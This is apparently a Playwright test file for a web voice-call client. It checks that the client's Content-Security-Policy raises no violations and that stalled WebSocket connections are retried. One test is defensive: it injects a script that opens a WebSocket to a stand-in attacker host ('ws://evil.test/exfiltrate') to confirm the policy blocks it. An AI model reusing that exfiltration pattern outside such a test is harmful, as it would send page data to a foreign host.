"""The web client works under its own Content-Security-Policy: no page fires a `securitypolicyviolation`, and a
script cannot connect anywhere else."""

from __future__ import annotations

import asyncio

import pytest
from playwright.async_api import Page, expect

from tests.conftest import ServerProcess

from .conftest import OpenPage
from .steps import assert_audio_flows, connect, ring

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

WATCH_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`);
});
"""


async def watched(open_page: OpenPage, server: ServerProcess, path: str, name: str) -> Page:
    """A page opened at `path` that records every CSP violation from its first script on."""
    page = await open_page(server.http, path, name)
    await page.context.add_init_script(WATCH_VIOLATIONS)
    response = await page.reload()
    assert response is not None and "script-src 'self'" in response.headers["content-security-policy"]
    return page


async def test_pages_and_a_call_raise_no_csp_violation(fresh_server: ServerProcess, open_page: OpenPage) -> None:
    """index.html, callerA.html and callerB.html load under the CSP, and a call connects with no violation."""
    index = await watched(open_page, fresh_server, "/", "index")
    a = await watched(open_page, fresh_server, "/callerA.html", "A")
    b = await watched(open_page, fresh_server, "/callerB.html", "B")
    await index.fill("#my-id", "indexuser")
    for page in (index, a, b):
        await connect(page)
    await expect(a.locator('#online button[data-peer="clientB"]')).to_be_visible()
    await ring(a, b)
    await b.click("#accept")
    await expect(a.locator("#call-status")).to_have_text("Connected")
    await assert_audio_flows(b, "B")
    await a.click("#hangup")
    await expect(b.locator("#call-status")).not_to_have_text("Connected")
    for name, page in (("index", index), ("A", a), ("B", b)):
        found = await page.evaluate("window.__cspViolations")
        assert found == [], f"{name}: {found}"


async def test_a_script_cannot_open_a_websocket_to_another_host(
    fresh_server: ServerProcess, open_page: OpenPage
) -> None:
    """`connect-src 'self'` (which covers the page's own ws:/wss:): a script that got onto the page cannot send
    what it reads to a WebSocket of another host, as `ws: wss:` let it. The app's own `/ws` still connects."""
    page = await watched(open_page, fresh_server, "/", "index")
    await page.fill("#my-id", "cspuser")
    await connect(page)
    await page.evaluate("""() => { try { new WebSocket("ws://evil.test/exfiltrate"); } catch (e) {} }""")
    for _ in range(50):  # the report comes as an event (wait_for_function would eval, which the CSP refuses)
        if found := await page.evaluate("window.__cspViolations"):
            break
        await asyncio.sleep(0.1)
    assert found and all(v.startswith("connect-src ws://evil.test") for v in found), found


async def lose_the_socket_to_one_that_hangs(page: Page) -> None:
    """Close the page's socket, and have every socket it opens next hang on its way (to an address that never
    answers) until `window.__stuck` is false."""
    await page.evaluate(
        """() => { const Native = window.WebSocket; window.__stuck = true;
          window.WebSocket = class extends Native {
            constructor(url, protocols) { super(window.__stuck ? "ws://192.0.2.1:9/blackhole" : url, protocols); }
          };
          window.__e2e.sockets.at(-1).close(); }"""
    )
    await expect(page.locator("#server-status")).to_have_text("Reconnecting…")


async def test_a_socket_that_never_opens_is_given_up_and_another_tried(
    fresh_server: ServerProcess, open_page: OpenPage
) -> None:
    """A socket that neither opens nor closes (here one the CSP blocks: Chromium fires no event for it; on a
    network that drops packets, one that hangs for minutes) is given up after 8 s: the page tries again, and
    connects once the way is clear, instead of saying "Reconnecting…" for ever."""
    page = await watched(open_page, fresh_server, "/", "index")
    await page.fill("#my-id", "stuckuser")
    await connect(page)
    await lose_the_socket_to_one_that_hangs(page)
    await asyncio.sleep(1)
    await page.evaluate("window.__stuck = false")  # the next socket is the page's own: it opens
    await expect(page.locator("#server-status")).to_have_text("Connected", timeout=12_000)


async def test_retry_now_gives_up_a_socket_that_hangs_and_connects_at_once(
    fresh_server: ServerProcess, open_page: OpenPage
) -> None:
    """The user's "Retry now" while a socket hangs on its way (opened while the network was down) opens another at
    once, instead of doing nothing until the hanging one is given up 8 s later."""
    page = await watched(open_page, fresh_server, "/", "index")
    await page.fill("#my-id", "retryuser")
    await connect(page)
    await lose_the_socket_to_one_that_hangs(page)
    await expect(page.locator("#retry-countdown")).to_have_text("Trying again now…")  # the socket that hangs
    await page.evaluate("window.__stuck = false")  # the way is clear again
    await page.click("#retry-now")
    await expect(page.locator("#server-status")).to_have_text("Connected", timeout=3_000)
